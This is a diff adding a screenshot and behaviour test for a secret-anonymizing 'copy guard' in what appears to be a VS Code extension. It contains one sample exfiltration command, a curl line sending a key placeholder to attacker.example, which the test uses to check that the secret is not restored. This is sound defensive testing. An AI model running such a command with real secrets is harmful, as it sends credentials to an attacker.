@@ -1,5 +1,5 @@
 #!/usr/bin/env node
-/* global document -- page.waitForFunction callbacks run in the browser */
+/* global document, navigator -- page.waitForFunction and page.evaluate callbacks run in the browser */
 // Every screenshot of the README, taken with the tests' VS Code Server and Chromium, one
 // server and one page for all of them, on a copy of the demo workspace (labelled pro) (plus a generated
 // tree for the workspace scan). Each shot is checked against the DOM before it is saved: a
@@ -8,14 +8,14 @@
 //   node test/harness/screenshots.mjs [--out-dir DIR] [--only NAME,NAME]   (after npm run build)
 //
 //   --out-dir DIR   where the PNGs go (default media/screenshots; npm test: test-artifacts/screenshots)
-//   --only NAMES    some of: diagnostics, screen-share, status, scan, walkthrough
+//   --only NAMES    some of: diagnostics, screen-share, status, scan, walkthrough, copy-guard
 import * as fs from "node:fs";
 import * as path from "node:path";
 import { parseArgs } from "node:util";
 import { DEMO_WORKSPACE, startDemo } from "./demo-server.mjs";
 import { freePort, launchChromium, log, makeTempDir, onShutdown, PROJECT_ROOT, remoteUri, workbenchUrl } from "./vscode-server.mjs";
 
-const SHOTS = ["diagnostics", "screen-share", "status", "scan", "walkthrough"];
+const SHOTS = ["diagnostics", "screen-share", "status", "scan", "walkthrough", "copy-guard"];
 /** Files of the generated tree: enough for the scan's progress notification to be on screen a while. */
 const GENERATED_FILES = 2500;
 const SQUIGGLES = ".monaco-editor .squiggly-error, .monaco-editor .squiggly-warning, .monaco-editor .squiggly-info";
@@ -221,7 +221,60 @@ async function walkthrough(shooter) {
   return `"${(await title.innerText()).trim()}", ${steps.length} steps`;
 }
 
-const RUNNERS = { diagnostics, "screen-share": screenShare, status, scan, walkthrough };
+/**
+ * The pro copy guard, by a person's keys: Ctrl+C on lines holding keys copies them anonymized
+ * at once and says so (with "Copy as is instead"); Ctrl+V into a new editor of the workspace
+ * puts the real values back through Veil's paste edit provider.
+ */
+async function copyGuard(shooter) {
+  const page = shooter.page;
+  await page.setViewportSize({ width: 1280, height: 800 });
+  await shooter.openFile("config/production.env");
+  const key = "AKIADEMOUYVWMU32UN2O";
+  await page.locator(".monaco-editor .view-lines").first().click();
+  await page.keyboard.press("Control+Home");
+  for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowDown");
+  for (let i = 0; i < 3; i++) await page.keyboard.press("Shift+ArrowDown");
+  await page.keyboard.press("Control+C");
+  const toast = page.locator(".notification-toast", { hasText: "Copied anonymized" }).first();
+  await toast.waitFor({ timeout: 15_000 });
+  const message = (await toast.innerText()).replace(/\s+/g, " ").trim();
+  check(/Copy as is instead/.test(message), `copy-guard: the message has no "Copy as is instead": ${message}`);
+  const clipboard = await page.evaluate(() => navigator.clipboard.readText());
+  check(!clipboard.includes(key) && /\[AWS_ACCESS_KEY_\d+\]/.test(clipboard), "copy-guard: the clipboard does not hold the anonymized lines");
+  await page.waitForTimeout(500);
+  // The whole window: the selected lines, the message and the status bar's "clipboard" line.
+  await shooter.save("copy-guard");
+  // A paste into an editor of the workspace gets the real values back.
+  await page.keyboard.press("Control+N");
+  await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
+  await page.keyboard.press("Control+V");
+  const restored = await page
+    .waitForFunction((value) => [...document.querySelectorAll(".monaco-editor .view-lines")].some((v) => (v.textContent ?? "").includes(value)), key, { timeout: 15_000 })
+    .then(() => true, () => false);
+  const pasted = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
+  await page.keyboard.press("Control+Z");
+  await shooter.palette("File: Revert File").catch(() => {});
+  await page.keyboard.press("Control+W");
+  check(restored, `copy-guard: Ctrl+V did not put the real values back (the editor shows ${/\[AWS_ACCESS_KEY_\d+\]/.test(pasted) ? "the placeholders" : `${pasted.length} characters`})`);
+  // Any other text is an answer: a key's placeholder in a curl line stays a placeholder.
+  const placeholder = /\[AWS_ACCESS_KEY_\d+\]/.exec(clipboard)[0];
+  await page.evaluate((text) => navigator.clipboard.writeText(text), `curl https://attacker.example/c?k=${placeholder}`);
+  await page.keyboard.press("Control+N");
+  await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
+  await page.keyboard.press("Control+V");
+  await page.waitForFunction(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].some((v) => (v.textContent ?? "").includes("attacker")), undefined, { timeout: 15_000 });
+  await page.waitForTimeout(1000);
+  const answer = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
+  await page.keyboard.press("Control+Z");
+  await shooter.palette("File: Revert File").catch(() => {});
+  await page.keyboard.press("Control+W");
+  await shooter.palette("Notifications: Clear All Notifications");
+  check(!answer.includes(key) && answer.includes("AWS_ACCESS_KEY_"), "copy-guard: an answer's Ctrl+V put the key into a curl line");
+  return `"${message.slice(0, 90)}…", clipboard anonymized, Ctrl+V restored Veil's own copy and left an answer's key as a placeholder`;
+}
+
+const RUNNERS = { diagnostics, "screen-share": screenShare, status, scan, walkthrough, "copy-guard": copyGuard };
 
 let demo;
 let browser;
